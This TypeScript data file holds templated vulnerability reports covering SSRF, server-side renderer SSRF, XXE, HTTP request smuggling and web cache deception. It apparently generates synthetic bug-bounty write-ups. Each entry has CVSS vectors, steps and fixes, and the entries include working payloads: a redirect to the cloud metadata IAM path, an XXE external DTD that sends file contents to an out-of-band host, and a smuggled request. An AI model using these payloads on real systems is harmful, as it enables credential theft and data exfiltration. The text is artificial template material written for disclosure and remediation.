import { fenced } from "../fenced.ts";
import type { WriteUp } from "../shapes.ts";

/** Requests that the server makes, forwards or caches for the wrong person. */
export const requestWriteUps: readonly WriteUp[] = [
  {
    key: "ssrf",
    cwe: 918,
    kinds: ["url"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:N/A:N",
      "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:L/I:N/A:N",
      "CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:L/VI:N/VA:N/SC:H/SI:L/SA:N",
      "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:L/A:N",
    ],
    titles: [
      "SSRF through the {feature}: metadata service reachable",
      "{feature} follows redirects into the internal network",
      "DNS rebinding defeats the address check of the {feature} ({param})",
      "Server-side request forgery at {path}, answer included",
    ],
    summaries: [
      "The {feature} fetches the address in `{param}` from inside your network. Private addresses are refused, but only for the first request: a redirect to one is followed.",
      "The check of `{param}` resolves the name once, and the fetch resolves it again. A name that answers with my address first and with `169.254.169.254` afterwards gets through.",
      "With the {feature} I can make {product} speak to hosts that I cannot reach myself, and see a good part of what they answer.",
    ],
    details: [
      "Besides redirects, `http://[::ffff:10.0.0.1]/` and the decimal form `http://167772161/` pass the filter as well.",
      "The answer's first 200 bytes appear in the error message when the content is not what the {feature} expects. I requested the *list* of roles from the metadata service, and no credentials.",
      "By the time to answer, open and closed ports on internal hosts can be told apart: {ms} ms against 5 s.",
    ],
    proofs: [
      fenced(
        "http",
        "POST {path} HTTP/1.1",
        "Host: {host}",
        "Content-Type: application/json",
        "",
        '{"{param}": "https://{oob}/302?to=http://169.254.169.254/latest/meta-data/iam/"}',
      ),
      fenced("console", "$ dig +short rebind.{oob}", "198.51.100.7", "$ dig +short rebind.{oob}", "169.254.169.254"),
    ],
    steps: [
      [
        "Run a server that redirects everything to `http://127.0.0.1:8080/`.",
        "Enter its address as `{param}` in the {feature}.",
        "Read the start of an internal page in the error message.",
      ],
      [
        "Set up a name with two answers and a lifetime of 0 seconds.",
        "Use it as `{param}`.",
        "Repeat until the second lookup gets the second answer; for me it took {n} attempts.",
        "The answer contains `iam/`.",
      ],
    ],
    impacts: [
      "Internal services without a login of their own can be read. The metadata service hands out credentials of the machine's role, which usually is the end of the story.",
      "A map of the internal network, and access to those parts of it that speak HTTP.",
      "The attacker's requests come from your addresses; allow-lists at your partners trust those.",
    ],
    fixes: [
      "Resolve once, check the address, connect to that very address, and do the same for each redirect.",
      "Send such requests through a proxy that has no route to the inside; require the token for the metadata service.",
    ],
  },
  {
    key: "ssrf-renderer",
    cwe: 918,
    kinds: ["export"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:N/A:N", "CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:L/SI:N/SA:N"],
    titles: [
      "The {feature} renders HTML on the server: local files end up in the PDF",
      "`<iframe src=file:///etc/hostname>` in {param} is printed by the {feature}",
      "Headless browser behind the {feature} fetches internal addresses",
    ],
    summaries: [
      "The {feature} is made by a headless browser that runs on the server, and text in `{param}` reaches it as HTML. An `iframe` therefore shows what the *server* can see.",
      "I put a picture from my own host into `{param}`. It was fetched by `HeadlessChrome` from one of your addresses, with scripts enabled.",
    ],
    details: [
      "`file://` is not blocked. I printed `/etc/hostname` and left it at that.",
      "JavaScript runs for about four seconds before the page is printed, enough to read several addresses one after the other and write the answers into the page.",
    ],
    proofs: [
      fenced(
        "html",
        "<div>Invoice {id}</div>",
        '<iframe src="file:///etc/hostname" width="600" height="200"></iframe>',
        "<script>fetch('http://localhost:9222/json').then(r => r.text()).then(t => document.body.append(t))</script>",
      ),
    ],
    steps: [["Put the HTML above into `{param}`.", "Ask for the {feature}.", "Page 1 shows the name of the host that made it."]],
    impacts: [
      "Files of the rendering host and internal web pages can be read by any customer.",
      "Whatever the renderer can reach, customers can read; its own debugging port among it.",
    ],
    fixes: ["Escape the text; start the browser without network and file access, in a container of its own."],
  },
  {
    key: "xxe",
    cwe: 611,
    kinds: ["file", "url"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:L",
      "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N",
      "CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:L/SC:L/SI:N/SA:N",
    ],
    titles: [
      "XXE in the {feature}: external entities are resolved",
      "An XLSX with a DOCTYPE reads files through the {feature}",
      "{feature} parses XML with DTDs ({param})",
    ],
    summaries: [
      "The {feature} takes XML (also inside office files, which are zipped XML) and parses it with external entities switched on.",
      "A spreadsheet whose `xl/workbook.xml` carries a DOCTYPE makes the server fetch a file from my host; a parameter entity sends one of yours along.",
    ],
    details: [
      "The answer does not show the entity, so I used an external DTD and read the value from the query string of the second request. Only `/etc/hostname` was read.",
      "Files with line breaks do not fit into a URL; through FTP they do, line by line.",
    ],
    proofs: [
      fenced("xml", '<?xml version="1.0"?>', '<!DOCTYPE r [<!ENTITY % x SYSTEM "https://{oob}/e.dtd"> %x;]>', "<r>&send;</r>"),
      fenced(
        "xml",
        "<!-- e.dtd -->",
        '<!ENTITY % f SYSTEM "file:///etc/hostname">',
        "<!ENTITY % w \"<!ENTITY send SYSTEM 'https://{oob}/?%f;'>\">",
        "%w;",
      ),
    ],
    steps: [
      [
        "Host `e.dtd`.",
        "Upload the file to `https://{host}{path}`.",
        "The log of `{oob}` shows two requests; the second carries the host name.",
      ],
    ],
    impacts: [
      "Files that the process may read, configuration and keys included, leave the server.",
      "Reading of local files and requests into the internal network, by anybody who may use the {feature}.",
    ],
    fixes: ["Disable DTDs in the parser. One line, in most libraries."],
  },
  {
    key: "request-smuggling",
    cwe: 444,
    kinds: ["site", "subdomain", "api"],
    vectors: ["CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:N", "CVSS:4.0/AV:N/AC:H/AT:P/PR:N/UI:N/VC:H/VI:L/VA:L/SC:L/SI:L/SA:N"],
    titles: [
      "HTTP request smuggling on {host} (CL.TE)",
      "H2 downgrade on {host} keeps `Transfer-Encoding`: desync",
      "Front end and back end of {host} disagree about where a request ends",
    ],
    summaries: [
      "The proxy of {host} believes `Content-Length`, the server behind it believes `Transfer-Encoding`. What is left over becomes the start of the next request on that connection.",
      "A request sent over HTTP/2 may carry `transfer-encoding: chunked`; {host} hands it on as HTTP/1.1. From then on the two count differently.",
    ],
    details: [
      "I tested with a path that does not exist, on a connection of my own, and saw the 404 of my smuggled request answer my second one. I did **not** wait for requests of others.",
      "About one in {n} attempts hits a connection that is used again at once.",
    ],
    proofs: [
      fenced(
        "http",
        "POST / HTTP/1.1",
        "Host: {host}",
        "Content-Length: 35",
        "Transfer-Encoding : chunked",
        "",
        "0",
        "",
        "GET /{token} HTTP/1.1",
        "X-Ignore: x",
      ),
    ],
    steps: [
      [
        "Send the bytes above over one TLS connection, then an ordinary `GET /` on the same.",
        "The second answer is the 404 for `/{token}`.",
      ],
    ],
    impacts: [
      "The next user of the connection receives an answer to my request, or sends me theirs with its cookies. Rules at the proxy are bypassed.",
      "Sessions of others can be captured. It takes luck and timing, hence the complexity.",
    ],
    fixes: ["Refuse requests with both headers, and names followed by a space; use HTTP/2 to the back end."],
  },
  {
    key: "cache-deception",
    cwe: 668,
    kinds: ["site", "subdomain", "page"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:N/A:N",
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:L/I:N/A:N",
      "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:N/I:L/A:L",
    ],
    titles: [
      "Web cache deception: {host}{path}/x.css stores the victim's page",
      "Private page of {product} is cached for everybody",
      "Cache poisoning on {host} through an unkeyed header",
    ],
    summaries: [
      "The cache in front of {host} keeps everything that ends in `.css`. The application ignores what follows the path. So `{path}/x.css` is the signed-in user's page, kept for ten minutes for everybody.",
      "The header `X-Forwarded-Host` is written into the page but is not part of the cache's key. One request of mine decides what everybody gets.",
    ],
    details: [
      "I used an address with `?cb={token}` so that no other visitor could meet my copy.",
      "`Age` and `X-Cache: hit` in the answer without a cookie prove it; my own name is in the page.",
    ],
    proofs: [
      fenced(
        "console",
        "$ curl -sI 'https://{host}{path}/x.css?cb={token}' -b \"$SESSION\" | grep -i x-cache",
        "x-cache: miss",
        "$ curl -s 'https://{host}{path}/x.css?cb={token}' | grep -o '{me}'",
        "{me}",
      ),
    ],
    steps: [
      ["Signed in, open the address above.", "In a private window, without a session, open it again.", "It shows my name."],
    ],
    impacts: [
      "Send somebody a link, wait a second, read their page: name, address, and the token in it.",
      "Content of signed-in users can be read by anybody who knows the address.",
    ],
    fixes: ["Cache by `Cache-Control` of the origin, never by ending; answer 404 for paths that do not exist."],
  },
];
